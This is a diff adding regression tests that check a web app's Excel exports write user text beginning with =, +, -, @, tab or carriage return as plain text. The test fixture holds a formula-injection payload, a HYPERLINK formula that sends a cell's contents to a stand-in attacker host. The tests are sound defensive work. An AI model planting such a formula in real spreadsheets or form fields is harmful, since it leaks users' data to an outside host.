@@ -114,3 +114,48 @@ def test_county_staff_add_a_township_through_the_form(client_for, world):
         data = {"region": "某镇", "code": "150802300000", "level": "township", "parent": parent}
         assert c.post("/work/congresses/new/", {k: v for k, v in data.items() if v}).status_code == 200
     assert not Congress.objects.filter(code="150802300000").exists()
+
+
+# --- 2. Excel exports ran formulas from user text ----------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
+
+
+def read_back(content: bytes):
+    import io
+
+    from openpyxl import load_workbook
+
+    return load_workbook(io.BytesIO(content)).worksheets[0]
+
+
+def test_write_workbook_never_writes_formulas():
+    """Defect 2: a cell of user text starting with = became a live formula; = + - @ TAB CR
+    are written as text (data type 's', quote prefix: editing the cell keeps it text)."""
+    from renda.core.excel import write_workbook
+
+    risky = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
+    ws = read_back(write_workbook("测试", ["a"] * 7, [risky + ["普通文字"], [42, 3.5]]))
+    cells = list(ws[2])
+    for cell, text in zip(cells, risky, strict=False):
+        assert cell.data_type == "s", cell.value
+        assert cell.value == text  # the text itself is kept, not altered
+        assert cell.quotePrefix
+    assert cells[6].value == "普通文字" and not cells[6].quotePrefix
+    assert [c.value for c in ws[3]][:2] == [42, 3.5]  # numbers stay numbers
+
+
+def test_list_export_writes_a_proposer_formula_as_text(client_for, world):
+    """Defect 2 through the real list: a public proposer named =HYPERLINK(…) is exported
+    to the review-proposal ledger as text."""
+    from factories import add_samples
+
+    add_samples(world)
+    proposal = world.samples["proposal"]
+    type(proposal).objects.filter(pk=proposal.pk).update(proposer=FORMULA)
+    response = client_for("staff").get("/work/filing/proposals/?export=xlsx")
+    assert response.status_code == 200
+    ws = read_back(response.content)
+    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == FORMULA]
+    assert cells and all(c.data_type == "s" for c in cells)
+    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
